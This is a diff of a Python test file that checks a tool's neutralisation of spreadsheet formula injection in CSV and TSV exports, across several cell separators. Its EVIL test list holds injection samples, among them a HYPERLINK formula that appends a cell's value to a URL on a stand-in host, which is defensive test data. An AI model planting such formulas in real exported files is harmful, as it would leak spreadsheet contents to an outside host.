@@ -24,13 +24,14 @@ from kanon.studio import picture
 
 ROOT = Path(__file__).parent.parent
 EVIL = ["=1+1", "+A1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", '=HYPERLINK("http://x/"&A1)']
+NEUTRAL = ["'" + re.sub(r"([\t\r])=", r"\1'=", text) for text in EVIL]  # those split lines, too
 FINE = ["-5", "+1.50", "-1e-3", "-1,234.5", "- %"[:1] + "5 %", "a=1", " =1", "", "'", "0-5"]
-UNDO = re.compile(r"^'(?='*[=+\-@\t\r\n＝＋－＠])")
+UNDO = re.compile(r"(?<![^;,\t|\r\n])'(?=['\"]*[=+\-@\t\r\n＝＋－＠])")
 
 
-@pytest.mark.parametrize("text", EVIL)
-def test_what_begins_like_a_formula_gets_an_apostrophe(text):
-    assert is_formula(text) and neutral_text(text) == "'" + text
+@pytest.mark.parametrize(("text", "neutral"), [*zip(EVIL, NEUTRAL, strict=True)])
+def test_what_begins_like_a_formula_gets_an_apostrophe(text, neutral):
+    assert is_formula(text) and neutral_text(text) == neutral
 
 
 @pytest.mark.parametrize("text", FINE)
@@ -39,14 +40,36 @@ def test_what_does_not_and_numbers_stay(text):
 
 
 @examples(300)
-@given(st.text(st.sampled_from([*SIGNS, "'", "5", ".", "a"]), max_size=6))
+@given(st.text(st.sampled_from([*SIGNS, *"'5.a;,|\""]), max_size=8))
 @example("'=1")
 @example("'-5")
+@example("x;'=1;-5;\t=1")
 def test_what_was_neutralised_can_be_undone(text):
     changed = neutral_text(text)
     assert not is_formula(changed) or changed.startswith("'")
-    assert changed[:1] not in SIGNS or changed == text, "only a number begins with a sign"
     assert UNDO.sub("", changed) == text
+
+
+@examples(300)
+@given(st.text(st.sampled_from([*SIGNS, *"'5.a;,|\""]), max_size=8))
+@example('a;"=1"')
+def test_nothing_that_another_separator_cuts_off_is_a_formula(text):
+    for split in [";", ",", "|", "\t", "\n", "\r"]:
+        for part in neutral_text(text).split(split):
+            assert part[:1] == "'" or not is_formula(part)
+
+
+@pytest.mark.parametrize("kind", ["csv", "tsv"])
+@pytest.mark.parametrize("other", [";", "|", "\t", ","])
+def test_a_file_that_is_split_elsewhere_has_no_formula(kind, other):
+    cells = [f"x{split}{evil}" for split in ";|\t,\n" for evil in ("=1", '"=1"', "'@x", "-A1")]
+    content = table_bytes(pd.DataFrame({"a": 1, "b;=c": cells}), kind, neutral=True).decode()
+    for line in content.splitlines():
+        for part in line.split(other):
+            assert not is_formula(part) or part.lstrip('"')[:1] == "'"
+    assert content.splitlines()[0] == f'"a"{"," if kind == "csv" else chr(9)}"b;\'=c"'
+    found = read_table(content.encode(), f"t.{kind}", ReadSettings(None, "utf-8", ())).table
+    assert [UNDO.sub("", cell) for cell in found["b;'=c"]] == cells
 
 
 def test_the_page_on_formulas_says_how_to_undo_it():
@@ -78,7 +101,7 @@ def test_a_csv_is_neutralised_only_if_that_is_asked_for(kind, separator):
     assert as_it_is["=name"].tolist() == EVIL
     found = read_table(table_bytes(before, kind, separator, neutral=True), f"t.{kind}", how).table
     assert found.columns[0] == "'=name"
-    assert found["'=name"].tolist() == ["'" + text for text in EVIL]
+    assert found["'=name"].tolist() == NEUTRAL
     assert found["number"].tolist() == [str(n) for n in range(-4, 4)]
     assert set(found["share"]) == {"-0.5"} and set(found["text"]) == {"-5"}
     assert found["mixed"].tolist() == ["'=1", "-5", "", "2.5", "-7", "x", "''=1", "True"]
@@ -157,9 +180,9 @@ def test_the_command_line_neutralises_on_request(written):
     assert status == 0 and "=1+1" in out.read_text() and "'" not in out.read_text()
     status, _, out = written("neutral.csv", "--neutralise-formulas")
     assert status == 0
-    assert out.read_text().splitlines()[0] == "sex,'=note"
+    assert out.read_text().splitlines()[0] == '"sex","\'=note"'
     assert [line.split(",")[1] for line in out.read_text().splitlines()[1:]] == [
-        "'=1+1", "-5", "'@x", "fine"
+        '"\'=1+1"', '"-5"', '"\'@x"', '"fine"'
     ]  # fmt: skip
 
 
@@ -211,13 +234,13 @@ def test_the_file_with_a_matrix_is_neutralised_on_request(start, downloads):
     at.checkbox(key="utility-matrix-neutral").check()
     go(at)
     lines = downloads["utility-matrix-csv"][1]().decode().splitlines()
-    assert lines[0].startswith("'=age,") and ",'=age_" in lines[0]
+    assert lines[0].startswith('"\'=age",') and ",\"'=age_" in lines[0]
     assert any("'=cmd()" in line for line in lines)
-    assert not any(cell.startswith("=") for line in lines for cell in line.split(","))
+    assert not any(cell.strip('"').startswith("=") for line in lines for cell in line.split(","))
 
 
 def test_the_numbers_behind_a_picture_are_neutralised(downloads, monkeypatch):
     monkeypatch.setattr(picture, "file_name", lambda *parts: "numbers.csv")
     numbers = pd.DataFrame({"value": ["=1+1", "-5"], "share": [-0.5, 1.0]})
     picture.data_button("Data", lambda: numbers, "numbers", "")
-    assert downloads["numbers-data"][1]() == b"value,share\n'=1+1,-0.5\n-5,1.0\n"
+    assert downloads["numbers-data"][1]() == (b'"value","share"\n"\'=1+1","-0.5"\n"-5","1.0"\n')
